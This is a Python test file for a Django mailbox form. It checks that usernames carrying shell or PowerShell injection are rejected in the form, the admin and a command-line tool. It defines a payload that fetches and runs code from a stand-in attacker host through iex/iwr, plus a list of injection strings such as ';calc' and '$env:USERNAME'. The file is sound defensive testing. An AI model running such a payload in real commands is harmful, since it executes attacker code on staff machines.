"""The mailbox «Usuario» is a plain login: nothing a shell or PowerShell would interpret.

The user is printed in the diagnosis' PowerShell lines, which support staff paste into Exchange
Online PowerShell. An address with a quoted local part such as PAYLOAD is a valid e-mail address
for RFC 5321, yet pasted into a command it runs code; the form refuses it for every server type,
in the admin and on the command line, and saves nothing.
"""

import json

import pytest
from django.urls import reverse

from reception.forms import MailboxConfigurationForm
from reception.models import ReceptionMailbox
from tests.commands import run_command
from tests.reception.fake_check import install_fake_check
from tests.reception.mailbox_data import USERNAME, admin_post, basic, modern, typed_twice

PAYLOAD = "\"$(iex(iwr('https://evil.example/p')))\"@orga.example.test"
WORDS = "no admite comillas"
ADD_URL = reverse("admin:reception_receptionmailbox_add")

#: The same configuration in each server type (Otro's login need not be an e-mail address).
SERVER_TYPES = {
    "outlook_modern": modern,
    "outlook_basic": basic,
    "gmail": lambda **values: basic(server_type="gmail", host="imap.gmail.com", **values),
    "other": lambda **values: basic(server_type="other", host="mail.andina.example.test", **values),
}

UNPLAIN_USERS = [
    PAYLOAD,
    "o'brien@andina.example.test",
    "o’brien@andina.example.test",
    "‘x’@andina.example.test",
    "‚x‛@andina.example.test",
    '"recepcion"@andina.example.test',
    "“recepcion”@andina.example.test",
    "$env:USERNAME@andina.example.test",
    "recepcion`$x@andina.example.test",
    "recepcion(1)@andina.example.test",
    "recepcion{1}@andina.example.test",
    "recepcion;calc@andina.example.test",
    "recepcion|calc@andina.example.test",
    "recepcion&calc@andina.example.test",
    "recepcion<1>@andina.example.test",
    "recepcion\x1b@andina.example.test",
    "recepcion\u202e@andina.example.test",
]


@pytest.fixture
def fake_check(monkeypatch):
    return install_fake_check(monkeypatch)


def username_errors(values):
    form = MailboxConfigurationForm(typed_twice(values))
    form.is_valid()
    return form.errors.get("username", [])


@pytest.mark.parametrize("server_type", SERVER_TYPES)
def test_the_form_refuses_the_powershell_payload_for_every_server_type(db, server_type):
    errors = username_errors(SERVER_TYPES[server_type](username=PAYLOAD))

    assert any(WORDS in message for message in errors), errors


@pytest.mark.parametrize("username", UNPLAIN_USERS)
@pytest.mark.parametrize("server_type", ["outlook_modern", "other"])
def test_the_form_refuses_quotes_and_shell_characters(db, server_type, username):
    errors = username_errors(SERVER_TYPES[server_type](username=username))

    assert any(WORDS in message for message in errors), errors


def test_the_message_names_what_it_found_without_echoing_control_characters(db):
    (message,) = username_errors(modern(username="a$b\x1b(c)@andina.example.test"))

    assert "«$»" in message
    assert "«(»" in message
    assert "«)»" in message
    assert "carácter de control" in message
    assert "\x1b" not in message


def test_whitespace_keeps_its_own_message(db):
    errors = username_errors(basic(server_type="other", username="recepcion andina"))

    assert any("tiene espacios dentro del valor" in message for message in errors), errors


@pytest.mark.parametrize(
    ("server_type", "username"),
    [
        ("outlook_modern", USERNAME),
        ("outlook_modern", "recepcion.fe+dian_01@andina-sas.example.test"),
        ("gmail", "recepcion.andina@gmail.com"),
        ("other", "recepcion"),
        ("other", "ANDINA\\recepcion"),
    ],
)
def test_plain_logins_pass(db, server_type, username):
    assert username_errors(SERVER_TYPES[server_type](username=username)) == []


def test_the_admin_refuses_the_payload_and_saves_nothing(client, alice, org_a, fake_check):
    client.force_login(alice)

    response = client.post(ADD_URL, admin_post(modern(username=PAYLOAD), organization=org_a.pk))

    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert any(WORDS in message for message in errors.get("username", [])), errors
    assert not ReceptionMailbox.objects.exists()
    assert fake_check.calls == []


def test_the_admin_refuses_the_payload_on_a_configured_mailbox(client, alice, org_a, fake_check):
    client.force_login(alice)
    assert client.post(ADD_URL, admin_post(modern(), organization=org_a.pk)).status_code == 302
    mailbox = ReceptionMailbox.objects.get(organization=org_a)
    change_url = reverse("admin:reception_receptionmailbox_change", args=[mailbox.pk])

    response = client.post(change_url, admin_post(modern(username=PAYLOAD)))

    assert response.status_code == 200
    assert WORDS in response.content.decode()
    mailbox.refresh_from_db()
    assert mailbox.username == USERNAME
    assert len(fake_check.calls) == 1


@pytest.fixture
def configure(org_a, monkeypatch, capsys):
    def run(values):
        argv = ["mailbox_configure", "--organization", org_a.nit]
        return run_command(argv, stdin=json.dumps(values), monkeypatch=monkeypatch, capsys=capsys)

    return run


@pytest.mark.parametrize("server_type", SERVER_TYPES)
def test_the_command_refuses_the_payload_with_exit_2_and_saves_nothing(
    configure, fake_check, server_type
):
    result = configure(SERVER_TYPES[server_type](username=PAYLOAD))

    assert result.status == 2
    lines = [line for line in result.stderr.splitlines() if line.startswith("username: ")]
    assert any(WORDS in line for line in lines), result.stderr
    assert not ReceptionMailbox.objects.exists()
    assert fake_check.calls == []


def test_the_command_refuses_the_payload_on_a_configured_mailbox(configure, fake_check, org_a):
    assert configure(modern()).status == 0

    result = configure(modern(username=PAYLOAD))

    assert result.status == 2
    assert WORDS in result.stderr
    assert ReceptionMailbox.objects.get(organization=org_a).username == USERNAME
    assert len(fake_check.calls) == 1


def test_a_tab_gets_only_the_spaces_message(db):
    errors = username_errors(modern(username="recepcion\t@andina.example.test"))

    assert len(errors) == 1
    assert "tiene espacios dentro del valor" in errors[0]
